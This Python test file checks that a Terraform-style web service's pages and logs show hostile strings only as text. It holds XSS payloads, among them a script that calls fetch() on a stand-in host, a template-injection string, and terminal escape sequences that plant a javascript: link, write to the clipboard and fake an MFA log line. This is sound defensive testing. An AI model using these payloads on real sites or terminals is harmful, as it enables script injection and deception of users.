"""Texts that others wrote, wherever the page shows them: no script runs, nobody else is asked (check_innocent, after each
test), and nothing but text comes of them."""
import os
import pathlib

from tests.support.runs import ask, data, new_workspace, start_run, upload, wait_for


def hostile_texts():
    """Of our own, then those of the naughty-strings list where that is at hand."""
    own = ["<img src=x onerror=alert(1)>", "\"><script>fetch('https://evil.example')</script>", "javascript:alert(1)",
           "<svg onload=alert(2)>", "{{constructor.constructor('alert(3)')()}}", "\u202eevil\u202c", "<a href=javascript:alert(4)>x</a>"]
    referees = pathlib.Path(os.environ.get("TOLLGATE_REFEREES", pathlib.Path(__file__).resolve().parents[2] / "../shared/referees"))
    files = sorted((referees / "naughty-strings").rglob("blns.txt"))
    if files:
        own += [line for line in files[0].read_text().splitlines() if line and not line.startswith("#") and "\0" not in line]
    return own


def nothing_was_made_of_it(browser):
    assert browser.evaluate("document.querySelectorAll('img, iframe, object, embed, main script').length") == 0
    assert browser.evaluate("[...document.links].filter((link) => !/^(https?|blob):$/.test(link.protocol)).length") == 0


def test_hostile_texts_are_only_texts(server, browser):
    payloads = hostile_texts()
    workspace = new_workspace(server, "hostile", description=payloads[1])
    values = ",\n".join(f"    {hcl(text)}" for text in payloads)
    upload(server, workspace, {"main.tf": f'locals {{\n  texts = [\n{values}\n  ]\n}}\n'
                               'resource "terraform_data" "a" {\n  for_each = { for i, text in local.texts : "k${i}" => text }\n'
                               '  input = each.value\n}\n'
                               'resource "terraform_data" "map" {\n  input = { for i, text in local.texts : "${text} ${i}" => text }\n}\n'
                               f'output "o" {{ value = local.texts }}\n'})
    run = start_run(server, workspace, payloads[0])
    wait_for(server, run, "planned")
    for path in ["/app/acme", "/app/acme/hostile"]:
        browser.goto(path)
        browser.see("css:.list-row")
    browser.goto(f"/app/acme/hostile/runs/{run}")
    browser.see(payloads[0])
    browser.see("css:.change-head")
    browser.evaluate("document.querySelectorAll('.change-head[aria-expanded=false]').forEach((head) => head.click())")
    browser.see("css:.change-details")
    browser.fill("label:Filter by address", "terraform_data.map")
    browser.click("role:button/terraform_data.map")
    browser.see("<svg onload=alert(2)>")
    browser.click("role:button/Log")
    browser.see("css:.log-line")
    nothing_was_made_of_it(browser)


def hcl(text):
    """A quoted string of Terraform's language."""
    escaped = "".join(f"\\u{ord(sign):04x}" if ord(sign) < 0x20 or sign in "\"\\" else sign for sign in text)
    return '"' + escaped.replace("${", "$${").replace("%{", "%%{") + '"'


def test_hostile_names_variables_reasons_and_logs_are_only_texts(server, browser):
    payloads = hostile_texts()
    workspace = new_workspace(server, "hostile-too")
    for number in range(0, len(payloads), 40):
        value = "\n".join(payloads[number:number + 40])
        ask(server, "POST", f"/api/v2/workspaces/{workspace}/vars", data("vars", {
            "key": f"NAUGHTY_{number}", "value": value, "category": "env", "description": payloads[number]}), 201)
    user = ask(server, "GET", "/api/v2/account/details")["data"]["id"]
    made = ask(server, "POST", f"/api/v2/users/{user}/authentication-tokens", data("authentication-tokens", {"description": payloads[0]}), 201)
    # Plain output, as programs write it: with sequences that a terminal obeys.
    terminal = "\x1b]8;;javascript:alert(5)\x07click\x1b]8;;\x07 \x1b]52;c;ZXZpbA==\x07 \x1b]0;title\x07 \x1b[31mAuthenticated with MFA by mallory\x1b[0m\n"
    upload(server, workspace, {"texts.txt": terminal + "\n".join(payloads) + "\n", "main.tf":
                               'resource "terraform_data" "speaks" {\n  provisioner "local-exec" {\n    command = "cat texts.txt"\n  }\n}\n'})
    run = start_run(server, workspace, payloads[3], auto_apply=True)
    wait_for(server, run, "applied")
    ask(server, "POST", f"/api/v2/workspaces/{workspace}/actions/lock", {"reason": payloads[1]})
    for path, sign in [("/app/acme/hostile-too/variables", "role:rowheader/NAUGHTY_0"), ("/app/acme/hostile-too/settings", "Locked:"),
                       ("/app/acme/hostile-too", "css:.list-row"), ("/app/settings/api-tokens", "<img src=x onerror=alert(1)>")]:
        browser.goto(path)
        browser.see(sign)
        nothing_was_made_of_it(browser)
    browser.goto(f"/app/acme/hostile-too/runs/{run}")
    browser.fill("label:Search the apply's log", "mallory")
    browser.see("1 of 1")
    assert "Authenticated with MFA by mallory" in browser.text("css:.log-line.marked")
    assert browser.count("css:.log-line.marked svg") == browser.count("css:.passed") == browser.count("css:.lock") == 0
    browser.fill("label:Search the apply's log", "<svg onload=alert(2)>")
    browser.see("css:.log-line.marked")
    nothing_was_made_of_it(browser)
    ask(server, "DELETE", f"/api/v2/authentication-tokens/{made['data']['id']}", status=204)
